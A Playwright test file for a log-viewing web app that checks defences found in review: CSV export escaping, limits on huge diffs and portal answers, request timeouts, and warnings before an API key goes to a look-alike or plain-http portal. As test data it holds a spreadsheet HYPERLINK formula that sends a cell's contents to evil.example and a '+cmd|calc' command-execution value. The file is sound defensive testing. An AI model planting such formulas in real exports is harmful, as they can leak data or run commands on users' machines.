// Input that must not hurt: a log's text that a spreadsheet would run, a diff built to be slow,
// a link that asks for a page far past the end, an answer too large or with too many groups, a
// key about to go to the wrong portal or over plain http. Each was found in a review and is
// refused or defused; each test here failed before the fix.
const fs = require('fs');
const { expect } = require('@playwright/test');
const { test, waitReady, NOW, watchRequests } = require('./helpers');

const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")';

/** Events of the default window (the demo's clock ends on 2026-04-01) built for these tests. */
function craftedLog() {
  const at = (hour) => `2026-03-30T${String(hour).padStart(2, '0')}:00:00+00:00`;
  const event = (hour, fields) => ({ timestamp: at(hour), domain_id: 'ws', action: 'edit_dataset', ...fields });
  // Two lists of 150,000 numbers with nothing in common: 300,000 changes, 2 MB.
  const huge = JSON.stringify({
    keywords: [Array.from({ length: 150_000 }, (_, i) => i), Array.from({ length: 150_000 }, (_, i) => 150_000 + i)],
  });
  return [
    event(8, { user_id: '@evil', action: 'edit_reuse', reuse_title: FORMULA }),
    event(9, { user_id: '+cmd|calc', action: 'edit_reuse', reuse_title: FORMULA }),
    event(10, { user_id: 'ann', dataset_id: 'huge-diff', diff: huge }),
    event(11, { user_id: 'ann', dataset_id: 'shapes', diff: JSON.stringify({ field: 'metas.title', old: 'Draft', new: 'Final' }) }),
    event(12, { user_id: 'ann', dataset_id: 'shapes', diff: JSON.stringify([{ op: 'add', path: '/metas/keyword/-', value: 'trees' }]) }),
    event(13, { user_id: 'ann', dataset_id: 'shapes', diff: JSON.stringify({ before: { visibility: 'private' }, after: { visibility: 'public' } }) }),
  ];
}

async function importLog(page, name, records) {
  await page.goto('/connect');
  await page.locator('input[name="files"]').setInputFiles([
    { name, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(records)) },
  ]);
  await expect(page).toHaveURL(/source=files/);
  await waitReady(page);
}

async function download(page, button) {
  const [file] = await Promise.all([page.waitForEvent('download'), button.click()]);
  return fs.readFileSync(await file.path()).toString('utf8');
}

/** The cells of a `;` CSV, quotes removed (enough for these files: no `;` inside a cell). */
function cells(csv) {
  return csv.replace(/^\ufeff/, '').trim().split(/\r?\n/).flatMap((line) => line.split(';'))
    .map((cell) => cell.replace(/^"|"$/g, '').replace(/""/g, '"'));
}

test('text from the log that a spreadsheet would run downloads as text, and imports back the same', async ({ page }) => {
  await importLog(page, 'crafted.json', craftedLog());
  const starts = /^[=+\-@\t\r]/;
  await page.goto('/objects?source=files');
  await waitReady(page);
  const objects = await download(page, page.getByRole('button', { name: 'Download the object list as CSV' }));
  expect(cells(objects)).toContain(`'${FORMULA}`);
  expect(cells(objects).filter((cell) => starts.test(cell))).toEqual([]);
  await page.goto('/users?source=files');
  await waitReady(page);
  const users = await download(page, page.getByRole('button', { name: 'Download the user list as CSV' }));
  expect(cells(users)).toEqual(expect.arrayContaining(["'@evil", "'+cmd|calc"]));
  expect(cells(users).filter((cell) => starts.test(cell))).toEqual([]);
  // The log in the platform's CSV: defused too, and Connect reads the quote mark back off.
  await page.goto('/log?source=files');
  await waitReady(page);
  const log = await download(page, page.locator('button[data-download="platform-csv"]'));
  expect(log).toContain(`'${FORMULA.replace(/"/g, '""')}`);
  await page.goto('/connect');
  await page.locator('input[name="files"]').setInputFiles([
    { name: 'again.csv', mimeType: 'text/csv', buffer: Buffer.from(log) },
  ]);
  await expect(page).toHaveURL(/source=files/);
  await page.goto('/users?source=files');
  await waitReady(page);
  await expect(page.locator('table[data-table="users"]')).toContainText('@evil');
  await expect(page.locator('table[data-table="users"]')).not.toContainText("'@evil");
});

test('a diff of 300,000 changes lists the first ones and counts the rest; other logs\' shapes read as changes', async ({ page }) => {
  await importLog(page, 'crafted.json', craftedLog());
  // Comparing each item with every other kept this page loading for minutes.
  await page.goto('/objects/dataset/huge-diff?source=files');
  await waitReady(page);
  const diff = page.locator('[data-diff="changes"]');
  await expect(diff.locator('[data-change]')).toHaveCount(200);
  await expect(diff.locator('[data-more]')).toHaveText('and 299,800 more changes (see Raw)');
  await expect(diff.locator('[data-change]').first()).toHaveAttribute('data-path', 'keywords');

  await page.goto('/objects/dataset/shapes?source=files');
  await waitReady(page);
  const changes = page.locator('[data-diff="changes"] [data-change]');
  await expect(page.locator('[data-diff="text"]')).toHaveCount(0);
  await expect(changes.filter({ has: page.locator('.change__path', { hasText: 'metas.title' }) })).toHaveAttribute('data-change', 'changed');
  await expect(page.locator('[data-change="changed"][data-path="metas.title"]')).toContainText('Draft → Final');
  await expect(page.locator('[data-change="added"][data-path="metas.keyword.-"]')).toContainText('trees');
  await expect(page.locator('[data-change="changed"][data-path="visibility"]')).toContainText('private → public');
});

test('a link to page 99,999,999 of the log in portal mode shows the last page in one request', async ({ page }) => {
  const pages = watchRequests(page, { keep: (url) => url.includes('/records') });
  await page.goto('/log?agg=portal&page=99999999');
  await waitReady(page);
  const summary = page.locator('.summary');
  await expect(summary).toHaveText(/^Actions ([\d,]+)–([\d,]+) of ([\d,]+), newest first\.$/);
  const [, first, end, total] = (await summary.textContent()).match(/^Actions ([\d,]+)–([\d,]+) of ([\d,]+)/)
    .map((n) => Number(String(n).replace(/,/g, '')));
  expect(end).toBe(total);
  expect(first).toBe(Math.floor((total - 1) / 100) * 100 + 1);
  // The first page (its count) and the last, instead of a walk of total / 100 requests.
  expect(pages.length).toBeLessThanOrEqual(3);
  expect(pages.some((url) => url.includes('timestamp+asc'))).toBeTruthy();
  const rows = page.locator('table[data-table="log"] tbody tr');
  await expect(rows).toHaveCount(end - first + 1);
  const times = await rows.locator('time').allTextContents();
  expect(times.length).toBeGreaterThan(0);
});

/** The dashboard's object × user × action groups (not the notable rules' groups, which ask for
 * the first instant too). */
function isActivityQuery(url) {
  return url.pathname.includes('/exports/json') && (url.searchParams.get('group_by') || '').includes('user_id')
    && !(url.searchParams.get('select') || '').includes('min(');
}

test('an answer past the byte cap, and one past the cap of groups, say which', async ({ page }) => {
  // The object × user × action groups, answered by a hostile portal: 500,001 groups, then 65 MB.
  let answer = `[${Array.from({ length: 500_001 }, (_, i) => `{"user_id":"u${i}","n":1,"last":"2026-03-30T10:00:00+00:00"}`).join(',')}]`;
  await page.route(isActivityQuery, (route) => route.fulfill({
    status: 200, contentType: 'application/json', body: answer,
  }));
  await page.goto('/?agg=portal');
  await expect(page.locator('main')).toHaveAttribute('data-state', 'error');
  await expect(page.getByRole('alert')).toContainText('Too many objects and users to count on the portal');
  await expect(page.getByRole('alert')).toContainText('more than 500,000 groups');

  answer = `[${' '.repeat(65 * 1024 * 1024)}]`;
  // Not worth retrying (the same answer would come): a reload asks again.
  await page.reload();
  await expect(page.getByRole('alert')).toContainText("The portal's answer is too large", { timeout: 30_000 });
  await expect(page.getByRole('alert')).toContainText('67.1 MB');
});

test('an answer that never completes is abandoned after 120 s, and says so', async ({ page }) => {
  await page.clock.install({ time: new Date(NOW) });
  // The object × user × action groups (an export; not the one-group probe on records): the
  // request is held, never answered.
  let held = 0;
  await page.route(isActivityQuery, () => { held += 1; });
  await page.goto('/?agg=portal');
  // The page's timers run on the test's clock: move it until the request is out.
  await expect.poll(async () => {
    await page.clock.runFor(200);
    return held;
  }).toBeGreaterThan(0);
  await expect(page.locator('main')).toHaveAttribute('data-state', 'loading');
  await page.clock.runFor(119_000);
  await expect(page.locator('main')).toHaveAttribute('data-state', 'loading');
  await page.clock.runFor(2_000);
  await expect(page.getByRole('alert')).toContainText('The portal took too long to answer');
  await expect(page.getByRole('alert')).toContainText('No complete answer after 120 seconds');
  await expect(page.getByRole('alert').getByRole('button', { name: 'Retry' })).toBeVisible();
});

test.describe('before a key leaves', () => {
  test('Connect shows the host large, and warns of another portal\'s key and of plain http', async ({ page, baseURL }) => {
    await page.goto('/connect');
    await page.evaluate((portal) => sessionStorage.setItem(`boa.apikey:${portal}`, 'K'), baseURL);
    // A link pre-fills a look-alike address.
    await page.goto('/connect?portal=https%3A%2F%2Fdata.examp1e.com');
    await expect(page.locator('[data-portal-host]')).toHaveText('data.examp1e.com');
    await expect(page.locator('[data-warning="other-portal"]')).toContainText(`The key kept on this device is for ${baseURL}, not for data.examp1e.com`);
    await expect(page.locator('[data-warning="clear-text"]')).toHaveCount(0);
    await page.locator('input[name="portal"]').fill('http://data.example.com');
    await expect(page.locator('[data-warning="clear-text"]')).toContainText('travels unencrypted');
    // The demo portal, on this machine, is neither; an empty field says nothing.
    await page.locator('input[name="portal"]').fill(baseURL);
    await expect(page.locator('[data-warning]')).toHaveCount(0);
    await page.locator('input[name="portal"]').fill('');
    await expect(page.locator('[data-warning], [data-portal-host]')).toHaveCount(0);
  });

  test('every page warns while a key goes to an http:// portal', async ({ page, context }) => {
    // Nothing leaves this machine: requests to the made-up portal are refused here.
    await context.route((url) => url.hostname === 'portal.example', (route) => route.abort());
    await page.goto('/connect');
    await page.evaluate(() => sessionStorage.setItem('boa.apikey:http://portal.example', 'K'));
    for (const path of ['/', '/log', '/users']) {
      // agg=portal: every request from the page, where the route above refuses it.
      await page.goto(`${path}?portal=http%3A%2F%2Fportal.example&agg=portal`);
      await expect(page.locator('main [data-warning="clear-text"]')).toContainText('A key is sent to http://portal.example over http://');
    }
    await page.goto('/?portal=https%3A%2F%2Fportal.example&agg=portal');
    await expect(page.locator('main [data-warning="clear-text"]')).toHaveCount(0);
  });
});
